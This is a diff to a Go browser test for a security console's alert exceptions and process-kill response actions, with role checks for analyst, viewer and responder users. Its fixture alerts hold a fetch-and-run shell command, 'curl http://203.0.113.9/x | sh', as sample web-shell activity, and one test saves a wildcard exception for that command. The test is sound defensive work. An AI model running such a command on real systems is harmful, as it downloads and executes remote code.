@@ -37,6 +37,7 @@ const (
 	apiToken   = "ui-test-api-token-0123456789abcdef"
 	anaPass    = "analyst password 1"
 	vicPass    = "viewer password 12"
+	robPass    = "responder password 1"
 	xssAlertID = "xss-alert"
 	shellID    = "shell-alert"
 )
@@ -70,6 +71,7 @@ func TestConsoleInBrowser(t *testing.T) {
 	base := startBackend(t)
 	addUser(t, base, "ana", "analyst", anaPass)
 	addUser(t, base, "vic", "viewer", vicPass)
+	addUser(t, base, "rob", "responder", robPass)
 
 	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
 	defer cancel()
@@ -170,6 +172,38 @@ func TestConsoleInBrowser(t *testing.T) {
 	notPwned("the triaged alert's page")
 	screenshot(t, bctx, "console-alert-triage.png")
 
+	// An exception from the alert: the form is prefilled from it; saved,
+	// it is listed with the agents that do not have it yet (the test's
+	// agent has no control channel handler: it never acknowledges).
+	if hasRespond, _ := chromedp.Run(bctx, chromedp.Evaluate[bool](`document.querySelector("#respond button") !== null`)); hasRespond ||
+		!strings.Contains(text("#respond"), "may not ask for response actions") {
+		t.Errorf("the analyst is offered response actions:\n%s", text("#respond"))
+	}
+	do("see the exception form (open while the alert has none)", chromedp.WaitVisible(chromedp.ID("exc-save")))
+	for id, want := range map[string]string{"exc-namespace": "shop", "exc-image": "nginx:1.27", "exc-process": "/bin/sh",
+		"exc-command": "/bin/sh -c curl http://203.0.113.9/x | sh", "exc-detection": "HAR-EXEC-002", "exc-scope": "namespace"} {
+		if got, err := chromedp.Run(bctx, chromedp.Value(chromedp.ID(id))); err != nil || got != want {
+			t.Errorf("exception form field %s = %q (%v), want %q prefilled from the alert", id, got, err, want)
+		}
+	}
+	do("fill the exception", chromedp.SetValue(chromedp.ID("exc-command"), "/bin/sh -c curl http://203.0.113.9/*"),
+		chromedp.SendKeys(chromedp.ID("exc-reason"), "the shop's health check"), chromedp.ScrollIntoView(chromedp.ID("exception")))
+	screenshot(t, bctx, "console-exception-form.png")
+	do("save the exception", chromedp.Click(chromedp.ID("exc-save")), chromedp.WaitVisible(chromedp.ID("exceptions")))
+	listed := text("#exceptions")
+	for _, want := range []string{"HAR-EXEC-002", "namespace shop", "command /bin/sh -c curl http://203.0.113.9/*", "ana", "the shop's health check", "node-1: not yet"} {
+		if !strings.Contains(listed, want) {
+			t.Errorf("exception list lacks %q:\n%s", want, listed)
+		}
+	}
+	var excs struct {
+		Exceptions backend.ExceptionSet
+	}
+	apiGet(t, base, "/api/v1/exceptions", &excs)
+	if len(excs.Exceptions.Exceptions) != 1 || excs.Exceptions.Exceptions[0].CreatedBy != "ana" || excs.Exceptions.Exceptions[0].AlertID != shellID {
+		t.Errorf("exceptions at the backend: %+v", excs.Exceptions)
+	}
+
 	// A viewer: no form, and a change forced anyway is refused, by the
 	// page and by the API.
 	do("sign out", chromedp.Navigate(base+"/logout"), chromedp.WaitVisible(chromedp.ID("username")))
@@ -218,6 +252,38 @@ func TestConsoleInBrowser(t *testing.T) {
 	apiGet(t, base, "/api/v1/alerts/"+shellID+"/triage", &got)
 	if got.Triage.State != "in_progress" {
 		t.Errorf("after the viewer's attempts the state is %q", got.Triage.State)
+	}
+
+	// A responder asks for a response from the alert: the confirmation
+	// says what will happen to what; confirmed, the command is recorded
+	// and shown pending (this test's agent answers no command: the real
+	// outcome is tests/e2e's TestRespondFromConsole).
+	do("sign out", chromedp.Navigate(base+"/logout"), chromedp.WaitVisible(chromedp.ID("username")))
+	signIn("rob", robPass, "")
+	do("open the alert as responder", chromedp.Navigate(base+"/alerts/"+shellID), chromedp.WaitVisible(chromedp.ID("respond")),
+		chromedp.Click(chromedp.CSS("#respond button.respond-kill-process-tree")), chromedp.WaitVisible(chromedp.ID("respond-confirm-button")))
+	if effect := text("#respond-effect"); !strings.Contains(effect, "sends SIGKILL to process 4243 (/bin/sh, started") {
+		t.Errorf("confirmation says %q", effect)
+	}
+	do("give a reason", chromedp.SendKeys(chromedp.ID("respond-reason"), "web shell on shop"))
+	screenshot(t, bctx, "console-response-confirm.png")
+	do("confirm", chromedp.Click(chromedp.ID("respond-confirm-button")), chromedp.WaitVisible(chromedp.ID("command-state")))
+	if st := text("#command-state"); st != "pending" {
+		t.Errorf("command state %q, want pending", st)
+	}
+	cmdURL, err := chromedp.Run(bctx, chromedp.Evaluate[string](`location.pathname`))
+	if err != nil || !strings.HasPrefix(cmdURL, "/response/commands/cmd-") {
+		t.Errorf("after confirming: at %q (%v)", cmdURL, err)
+	}
+	var cmds struct{ Commands []backend.CommandRecord }
+	apiGet(t, base, "/api/v1/response/commands", &cmds)
+	if len(cmds.Commands) != 1 || cmds.Commands[0].RequestedBy != "rob" || cmds.Commands[0].AgentID != "node-1" ||
+		cmds.Commands[0].Target.PID != 4243 || cmds.Commands[0].Reason != "web shell on shop" || cmds.Commands[0].State != backend.CommandPending {
+		t.Errorf("commands at the backend: %+v", cmds.Commands)
+	}
+	do("the alert lists its command", chromedp.Navigate(base+"/alerts/"+shellID), chromedp.WaitVisible(chromedp.ID("respond-commands")))
+	if row := text("#respond-commands"); !strings.Contains(row, "kill-process-tree") || !strings.Contains(row, "rob") || !strings.Contains(row, "pending") {
+		t.Errorf("the alert's commands: %s", row)
 	}
 	t.Logf("browser steps took %v", time.Since(start).Round(time.Millisecond))
 }
@@ -292,9 +358,11 @@ func testAlerts() []*api.Record {
 		FirstSeen: timestamppb.New(now.Add(-time.Minute)), LastSeen: timestamppb.New(now), Count: 1, Node: "node-1",
 		Summary:     "nginx (pid 4242) started /bin/sh -c 'curl http://203.0.113.9/x | sh' in shop/web-7d9f",
 		Description: "A web server process started a shell: the usual first step of a web shell or an exploited request handler.",
-		Container:   &api.Container{Id: "3f2a9c", Name: "web", PodName: "web-7d9f", PodNamespace: "shop", Image: "nginx:1.27"},
-		Process:     &api.Process{Tgid: 4243, Exe: "/bin/sh", Args: []string{"/bin/sh", "-c", "curl http://203.0.113.9/x | sh"}},
-		Mitre:       []*api.Mitre{{Tactic: "Execution", TechniqueId: "T1059.004", Technique: "Unix Shell"}}}
+		Container: &api.Container{Id: "3f2a9c", Name: "web", PodName: "web-7d9f", PodNamespace: "shop", Image: "nginx:1.27",
+			Cgroup: "/kubepods/besteffort/pod7d9f/3f2a9c"},
+		Process: &api.Process{Tgid: 4243, Exe: "/bin/sh", Args: []string{"/bin/sh", "-c", "curl http://203.0.113.9/x | sh"},
+			StartTime: timestamppb.New(now.Add(-2 * time.Minute))},
+		Mitre: []*api.Mitre{{Tactic: "Execution", TechniqueId: "T1059.004", Technique: "Unix Shell"}}}
 	xssContainer := &api.Container{Id: "c0ffee", Name: xssPod, PodName: xssPod, PodNamespace: "shop",
 		Labels: map[string]string{"app": xssLabel, xssLabel: "key"}}
 	xss := &api.Alert{Id: xssAlertID, DetectionId: "HAR-FILE-001", Name: "Dropped " + xssArg, Severity: api.Severity_SEVERITY_CRITICAL,
